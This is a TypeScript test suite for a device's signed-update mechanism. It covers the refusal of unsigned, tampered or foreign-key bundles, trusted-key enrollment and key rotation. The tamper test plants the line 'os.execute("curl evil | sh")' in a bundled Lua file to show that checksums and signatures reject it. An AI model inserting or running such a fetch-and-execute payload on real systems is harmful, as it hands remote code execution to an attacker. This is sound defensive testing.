/**
 * Signed updates: image/install.sh (through runUpdate, what `homeagent update`
 * calls) accepts a bundle only when its manifest.sig is an ed25519 signature
 * by a key in the device's keys directory, checked before anything is put in
 * place; trust comes from the image or `homeagent keys add`, never from the
 * bundle being installed; new keys arrive inside a release signed by a key
 * already trusted (rotation). Bundles are made by the real scripts/bundle.mjs
 * with keys from the real scripts/keygen.mjs.
 */
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { verifyBundleDir } from '../../image/verify-bundle.mjs';
import { addTrustedKeys, listTrustedKeys, removeTrustedKey, runUpdate, type ReleaseScriptResult } from '../../src/service/update.js';
import { bundleProject, deviceOptions, makeDevice, makeKey, makeProject, releaseDirs, runBundleCli, stagingLeftovers, tempDir, testKey, type FakeDevice, type SignOptions, type TestKey } from './release-fixture.js';

const work = tempDir('ha-signature-');
after(() => rmSync(work, { recursive: true, force: true }));

let n = 0;
/** A fresh bundle of `version`, signed as `sign` says (default: the test key). */
async function bundle(version: string, sign: SignOptions = {}): Promise<string> {
  const out = join(work, `out-${++n}`);
  mkdirSync(out);
  return bundleProject(makeProject(join(work, `p-${n}`), version), out, sign);
}

let good = '';
let otherKey: TestKey;
before(async () => {
  good = await bundle('1.0.0');
  otherKey = makeKey('someone-else');
});

/** What a refused update must leave as it was. */
function snapshot(d: FakeDevice): unknown {
  return {
    current: d.current(),
    previous: d.previous(),
    started: d.started(),
    npm: d.npmCalls().length,
    releases: existsSync(join(d.root, 'opt/homeagent/releases')) ? releaseDirs(d) : [],
    unit: existsSync(join(d.root, 'etc/systemd/system/homeagent.service')) ? readFileSync(join(d.root, 'etc/systemd/system/homeagent.service'), 'utf8') : null,
    keys: d.trustedKeys(),
  };
}

/** A refusal by the signature check, with nothing changed on the device. */
function assertRefused(r: ReleaseScriptResult, d: FakeDevice, before: unknown, reason: string, message: RegExp): void {
  assert.equal(r.ok, false);
  assert.equal(r.outcome, 'refused', r.log);
  assert.equal(r.code, 'BUNDLE_REFUSED');
  assert.equal(r.exitCode, 2);
  assert.equal(r.signatureRefusal, reason, r.log);
  assert.match(r.message, /^bundle refused, nothing changed: /);
  assert.match(r.message, message);
  assert.deepEqual(snapshot(d), before, 'nothing unpacked into place, no npm ci, no restart, keys unchanged');
  assert.deepEqual(stagingLeftovers(d), []);
}

/** Unpack a bundle, let `edit` change it, pack it again (signature NOT redone). */
function tamper(tarball: string, version: string, name: string, edit: (top: string) => void): string {
  const dir = join(work, `tamper-${name}`);
  mkdirSync(dir);
  assert.equal(spawnSync('tar', ['-xzf', tarball, '-C', dir]).status, 0);
  edit(join(dir, `homeagent-${version}`));
  const out = join(work, `${name}.tar.gz`);
  assert.equal(spawnSync('tar', ['-czf', out, '-C', dir, `homeagent-${version}`]).status, 0);
  return out;
}

test('good: a bundle signed by a trusted key is installed, and says which key signed it', async () => {
  const d = makeDevice(work);
  const r = await runUpdate(good, deviceOptions(d));
  assert.equal(r.ok, true, r.log);
  assert.equal(r.outcome, 'installed');
  assert.equal(r.signedBy, testKey().id);
  assert.equal(r.signatureUnchecked, undefined);
  assert.match(r.log, new RegExp(`signature verified: homeagent 1\\.0\\.0 is signed by trusted key ${testKey().id}`));
  assert.equal(d.current(), '1.0.0');
  // The installed release carries the checker the next update will use.
  assert.ok(existsSync(join(d.root, 'opt/homeagent/releases/1.0.0/image/release-keys.mjs')));
});

test('unsigned: refused before anything is put in place; --allow-unsigned installs it and says loudly it is for development', async () => {
  const d = makeDevice(work);
  assert.equal((await runUpdate(good, deviceOptions(d))).ok, true);
  const unsigned = await bundle('1.1.0', { unsigned: true, addKeys: [otherKey] });
  const before = snapshot(d);
  const r = await runUpdate(unsigned, deviceOptions(d));
  assertRefused(r, d, before, 'unsigned', /the bundle is not signed \(no manifest\.sig\); make releases with npm run bundle -- --key/);

  const dev = await runUpdate(unsigned, deviceOptions(d, { allowUnsigned: true }));
  assert.equal(dev.ok, true, dev.log);
  assert.equal(dev.signatureUnchecked, true);
  assert.equal(dev.signedBy, undefined);
  assert.match(dev.log, /--allow-unsigned: the signature check is OFF/);
  assert.match(dev.log, /development only/i);
  assert.match(dev.log, /would have refused this bundle: the bundle is not signed/);
  assert.match(dev.message, /WITHOUT a trusted signature \(--allow-unsigned, development only\)/);
  assert.equal(d.current(), '1.1.0');
  // Trust is never taken from a bundle whose signature was not checked.
  assert.deepEqual(d.trustedKeys(), [testKey().id]);
  assert.match(dev.log, /not trusting the release keys inside 1\.1\.0/);
});

test('tampered: a changed file fails its checksum; a changed manifest fails the signature', async () => {
  const d = makeDevice(work);
  assert.equal((await runUpdate(good, deviceOptions(d))).ok, true);
  const signed = await bundle('1.1.0');
  const before = snapshot(d);

  // A file changed after signing, manifest untouched: the signed checksums catch it.
  const file = tamper(signed, '1.1.0', 'file', (top) => writeFileSync(join(top, 'adapters/ollama.lua'), 'os.execute("curl evil | sh")\n'));
  const r1 = await runUpdate(file, deviceOptions(d));
  assert.equal(r1.outcome, 'refused', r1.log);
  assert.equal(r1.code, 'BUNDLE_REFUSED');
  assert.match(r1.log, /(checksum|size) mismatch: adapters\/ollama\.lua/);
  assert.deepEqual(snapshot(d), before);

  // The file and its manifest entry changed together (checksums consistent again): the signature catches it.
  const manifest = tamper(signed, '1.1.0', 'manifest', (top) => {
    const evil = 'os.execute("curl evil | sh")\n';
    writeFileSync(join(top, 'adapters/ollama.lua'), evil);
    const m = JSON.parse(readFileSync(join(top, 'manifest.json'), 'utf8')) as { files: Array<{ path: string; size: number; sha256: string }> };
    const entry = m.files.find((f) => f.path === 'adapters/ollama.lua');
    assert.ok(entry);
    entry.size = Buffer.byteLength(evil);
    entry.sha256 = (spawnSync('sha256sum', [join(top, 'adapters/ollama.lua')], { encoding: 'utf8' }).stdout.split(' ')[0] ?? '').trim();
    writeFileSync(join(top, 'manifest.json'), `${JSON.stringify(m, null, 2)}\n`);
  });
  assertRefused(await runUpdate(manifest, deviceOptions(d)), d, before, 'bad-signature', new RegExp(`signature by trusted key ${testKey().id} does not match manifest\\.json: the bundle was changed after it was signed`));

  // A signature file that is not one.
  const garbled = tamper(signed, '1.1.0', 'garbled', (top) => writeFileSync(join(top, 'manifest.sig'), '{"format":1,"signatures":"no"}'));
  assertRefused(await runUpdate(garbled, deviceOptions(d)), d, before, 'malformed', /manifest\.sig is not a format 1 signature list/);
});

test('wrong key: a bundle signed by a key the device does not trust is refused, and the keys it carries are not trusted', async () => {
  const d = makeDevice(work);
  assert.equal((await runUpdate(good, deviceOptions(d))).ok, true);
  // Signed by someone else, who ships their own key hoping the box will adopt it.
  const foreign = await bundle('1.1.0', { keys: [otherKey], addKeys: [otherKey] });
  const before = snapshot(d);
  const r = await runUpdate(foreign, deviceOptions(d));
  assertRefused(r, d, before, 'untrusted-key', new RegExp(`signed by ${otherKey.id}, which is not among the trusted keys in .*etc/homeagent/keys \\(${testKey().id}\\); if you trust it, sudo homeagent keys add KEY\\.pub`));
  assert.deepEqual(d.trustedKeys(), [testKey().id]);
});

test('first install without a key: refused and says how to enroll one; after `keys add` the same bundle installs', async () => {
  const d = makeDevice(work, { trust: [] });
  const before = snapshot(d);
  const r = await runUpdate(good, deviceOptions(d));
  assertRefused(r, d, before, 'no-trusted-keys', /no trusted release keys in .*etc\/homeagent\/keys.*sudo homeagent keys add KEY\.pub/);
  assert.equal(existsSync(join(d.root, 'opt/homeagent/current')), false);

  // The explicit enrollment: `sudo homeagent keys add FILE` (here with the fake device's root).
  const privateRefused = await addTrustedKeys([testKey().privateKeyFile], { root: d.root });
  assert.equal(privateRefused.ok, false);
  assert.equal(privateRefused.code, 'KEY_INVALID');
  assert.match(privateRefused.message, /is a PRIVATE key; give the public key/);
  const added = await addTrustedKeys([testKey().publicKeyFile], { root: d.root });
  assert.equal(added.ok, true, added.message);
  assert.deepEqual(added.changed, [testKey().id]);
  assert.equal(added.keysDir, d.keysDir);
  assert.match(added.message, new RegExp(`trusted release key ${testKey().id}`));
  assert.equal(statSync(join(d.keysDir, `${testKey().id}.pub`)).mode & 0o777, 0o644);

  const r2 = await runUpdate(good, deviceOptions(d));
  assert.equal(r2.ok, true, r2.log);
  assert.equal(r2.signedBy, testKey().id);
  assert.equal(d.current(), '1.0.0');
});

test("README's first install: the bundle's own release-keys.mjs enrolls the key, then its install.sh installs", () => {
  const d = makeDevice(work, { trust: [] });
  const ha = join(d.dir, 'ha');
  mkdirSync(ha);
  assert.equal(spawnSync('tar', ['-xzf', good, '-C', ha]).status, 0);
  const env = { ...process.env, ...d.env, HOMEAGENT_ROOT: d.root, SYSTEMCTL: d.systemctl, HOMEAGENT_NPM: d.npm, HOMEAGENT_NODE: process.execPath, HOMEAGENT_READY_TIMEOUT: '5', HOMEAGENT_SETTLE: '0' };
  delete env.HOMEAGENT_KEYS_DIR;
  const add = spawnSync(process.execPath, [join(ha, 'homeagent-1.0.0/image/release-keys.mjs'), 'add', testKey().publicKeyFile], { encoding: 'utf8', env });
  assert.equal(add.status, 0, add.stderr);
  assert.equal(add.stdout.trim(), `trusted key ${testKey().id} (${d.keysDir}/${testKey().id}.pub)`);
  const install = spawnSync('bash', [join(ha, 'homeagent-1.0.0/image/install.sh'), good], { encoding: 'utf8', env });
  assert.equal(install.status, 0, install.stderr);
  assert.match(install.stdout, new RegExp(`homeagent-release: result=installed version=1\\.0\\.0 signed_by=${testKey().id}`));
  assert.equal(d.current(), '1.0.0');
});

test('rotation: a release signed by the old key brings the new key; later releases are signed by the new key and retire the old one', async () => {
  const oldKey = testKey();
  const newKey = makeKey('rotated');
  const d = makeDevice(work, { trust: [oldKey] });
  assert.equal((await runUpdate(good, deviceOptions(d))).ok, true);

  // Before the rotation release, the new key is not trusted.
  const early = await bundle('1.5.0', { keys: [newKey] });
  assert.equal((await runUpdate(early, deviceOptions(d))).signatureRefusal, 'untrusted-key');

  // 1.1.0: signed by the old key, carries the new one.
  const handover = await bundle('1.1.0', { keys: [oldKey], addKeys: [newKey] });
  const r1 = await runUpdate(handover, deviceOptions(d));
  assert.equal(r1.ok, true, r1.log);
  assert.deepEqual(r1.keysAdded, [newKey.id]);
  assert.match(r1.message, new RegExp(`now also trusts release key ${newKey.id}`));
  assert.deepEqual(d.trustedKeys(), [oldKey.id, newKey.id].sort());

  // 1.2.0: signed by the new key only, retires the old one.
  const retire = await bundle('1.2.0', { keys: [newKey], retireKeys: [oldKey.id] });
  const r2 = await runUpdate(retire, deviceOptions(d));
  assert.equal(r2.ok, true, r2.log);
  assert.equal(r2.signedBy, newKey.id);
  assert.deepEqual(r2.keysRetired, [oldKey.id]);
  assert.deepEqual(d.trustedKeys(), [newKey.id]);

  // The old key no longer signs anything this box installs.
  const stale = await bundle('1.3.0', { keys: [oldKey] });
  const before = snapshot(d);
  assertRefused(await runUpdate(stale, deviceOptions(d)), d, before, 'untrusted-key', new RegExp(`signed by ${oldKey.id}`));

  // A release cannot retire the last trusted key.
  const last = await bundle('1.4.0', { keys: [newKey], retireKeys: [newKey.id] });
  const r3 = await runUpdate(last, deviceOptions(d));
  assert.equal(r3.ok, true, r3.log);
  assert.equal(r3.keysRetired, undefined);
  assert.match(r3.log, new RegExp(`not retiring ${newKey.id}: it is the last trusted key`));
  assert.deepEqual(d.trustedKeys(), [newKey.id]);
});

test('a bundle whose manifest adds a key it does not contain, or names keys oddly, does not verify', async () => {
  const newKey = makeKey('missing-from-bundle');
  const rotation = await bundle('1.1.0', { addKeys: [newKey] });
  const dir = join(work, 'keys-shape');
  mkdirSync(dir);
  assert.equal(spawnSync('tar', ['-xzf', rotation, '-C', dir]).status, 0);
  const top = join(dir, 'homeagent-1.1.0');
  assert.deepEqual(await verifyBundleDir(top), { ok: true, version: '1.1.0', files: (JSON.parse(readFileSync(join(top, 'manifest.json'), 'utf8')) as { files: unknown[] }).files.length });
  const m = JSON.parse(readFileSync(join(top, 'manifest.json'), 'utf8')) as { keys: { add: string[]; retire: unknown }; files: Array<{ path: string }> };
  assert.deepEqual(m.keys.add, [newKey.id]);
  rmSync(join(top, 'keys', `${newKey.id}.pub`));
  m.files = m.files.filter((f) => f.path !== `keys/${newKey.id}.pub`);
  m.keys.retire = ['not-a-key-id'];
  writeFileSync(join(top, 'manifest.json'), JSON.stringify(m));
  const r = await verifyBundleDir(top);
  assert.equal(r.ok, false);
  assert.match(r.ok ? '' : r.problems.join('\n'), /manifest "keys" is not \{ add: \[key id\.\.\.\], retire: \[key id\.\.\.\] \}/);
  m.keys.retire = [];
  writeFileSync(join(top, 'manifest.json'), JSON.stringify(m));
  const r2 = await verifyBundleDir(top);
  assert.match(r2.ok ? '' : r2.problems.join('\n'), new RegExp(`manifest adds key ${newKey.id} but keys/${newKey.id}\\.pub is not in the bundle`));
});

test('a release whose update is rolled back does not enroll the keys it carries', async () => {
  const newKey = makeKey('from-a-bad-release');
  const d = makeDevice(work);
  assert.equal((await runUpdate(good, deviceOptions(d))).ok, true);
  const broken = await bundle('1.1.0', { addKeys: [newKey] });
  d.markBad('1.1.0');
  const r = await runUpdate(broken, deviceOptions(d));
  assert.equal(r.outcome, 'rolled-back', r.log);
  assert.deepEqual(d.trustedKeys(), [testKey().id]);
});

test('homeagent keys list/remove: the trusted keys, and a warning when none is left', async () => {
  const d = makeDevice(work);
  const listed = await listTrustedKeys({ keysDir: d.keysDir });
  assert.equal(listed.ok, true);
  assert.deepEqual(listed.keys, [{ id: testKey().id, file: join(d.keysDir, `${testKey().id}.pub`) }]);
  writeFileSync(join(d.keysDir, 'junk.pub'), 'not a key\n');
  const withJunk = await listTrustedKeys({ keysDir: d.keysDir });
  assert.equal(withJunk.keys.length, 1);
  assert.match(withJunk.warnings.join('\n'), /ignoring .*junk\.pub: .*not a PEM public key/);

  assert.equal((await removeTrustedKey('nothex', { keysDir: d.keysDir })).code, 'KEY_INVALID');
  assert.equal((await removeTrustedKey(otherKey.id, { keysDir: d.keysDir })).code, 'NOT_FOUND');
  const removed = await removeTrustedKey(testKey().id, { keysDir: d.keysDir });
  assert.equal(removed.ok, true);
  assert.deepEqual(removed.keys, []);
  assert.match(removed.message, /no trusted release keys are left: every update is refused until you add one/);
});

test('homeagent keys add on the command line (HOMEAGENT_KEYS_DIR), and update --allow-unsigned warns before it starts', () => {
  const dir = join(work, 'cli-keys');
  const cli = (args: string[]): { status: number | null; stdout: string; stderr: string } => {
    const r = spawnSync(process.execPath, ['--import', 'tsx', join(import.meta.dirname, '../../src/cli/main.ts'), ...args], {
      encoding: 'utf8',
      timeout: 120_000,
      env: { ...process.env, HOMEAGENT_KEYS_DIR: dir },
    });
    return { status: r.status, stdout: r.stdout, stderr: r.stderr };
  };
  const add = cli(['keys', 'add', testKey().publicKeyFile]);
  assert.equal(add.status, 0, add.stderr);
  assert.match(add.stdout, new RegExp(`trusted release key ${testKey().id}`));
  const list = cli(['keys', 'list']);
  assert.equal(list.status, 0, list.stderr);
  assert.match(list.stdout, new RegExp(`^${testKey().id}  ${dir}/${testKey().id}\\.pub$`, 'm'));
  const bad = cli(['keys', 'add', join(work, 'missing.pub')]);
  assert.equal(bad.status, 1);
  assert.match(bad.stderr, /cannot read .*missing\.pub/);
  const upd = cli(['update', '--allow-unsigned', join(work, 'missing.tar.gz')]);
  assert.equal(upd.status, 1);
  assert.match(upd.stderr, /--allow-unsigned: the signature check is OFF/);
  assert.match(upd.stdout, /cannot read bundle/);
});

test('npm run bundle refuses to make a release without a key, names a public key given as --key, and marks --unsigned loudly', () => {
  const project = makeProject(join(work, 'cli-bundle'), '7.0.0');
  const out = join(work, 'cli-bundle-out');
  const none = runBundleCli(['--project', project, '--out-dir', out, '--no-build'], { HOMEAGENT_SIGNING_KEY: '' });
  assert.equal(none.status, 1);
  assert.match(none.stderr, /no signing key: a release must be signed\. Pass --key FILE .*npm run keygen/);
  assert.equal(existsSync(join(out, 'homeagent-7.0.0.tar.gz')), false);

  const pub = runBundleCli(['--project', project, '--out-dir', out, '--no-build', '--key', testKey().publicKeyFile]);
  assert.equal(pub.status, 1);
  assert.match(pub.stderr, /is not a private key; sign with the \.key file/);

  const unsigned = runBundleCli(['--project', project, '--out-dir', out, '--no-build', '--unsigned']);
  assert.equal(unsigned.status, 0, unsigned.stderr);
  assert.match(unsigned.stderr, /!!! UNSIGNED development bundle/);

  const retire = runBundleCli(['--project', project, '--out-dir', out, '--no-build', '--key', testKey().privateKeyFile, '--retire-key', 'oldkey']);
  assert.equal(retire.status, 1);
  assert.match(retire.stderr, /--retire-key "oldkey" is not a key id/);
});

test('npm run keygen writes an ed25519 pair: private 0600, never overwriting', () => {
  const dir = join(work, 'keygen');
  const run = (): { status: number | null; stdout: string; stderr: string } => {
    const r = spawnSync(process.execPath, [join(import.meta.dirname, '../../scripts/keygen.mjs'), '--out-dir', dir, '--name', 'ci'], { encoding: 'utf8' });
    return { status: r.status, stdout: r.stdout, stderr: r.stderr };
  };
  const r = run();
  assert.equal(r.status, 0, r.stderr);
  assert.deepEqual(r.stdout.trim().split('\n'), [join(dir, 'ci.key'), join(dir, 'ci.pub')]);
  assert.equal(statSync(join(dir, 'ci.key')).mode & 0o777, 0o600);
  assert.match(readFileSync(join(dir, 'ci.key'), 'utf8'), /^-----BEGIN PRIVATE KEY-----/);
  assert.match(readFileSync(join(dir, 'ci.pub'), 'utf8'), /^-----BEGIN PUBLIC KEY-----/);
  assert.match(r.stderr, /ed25519 release key [0-9a-f]{16}/);
  const again = run();
  assert.equal(again.status, 1);
  assert.match(again.stderr, /ci\.key exists; not overwriting a key/);
});
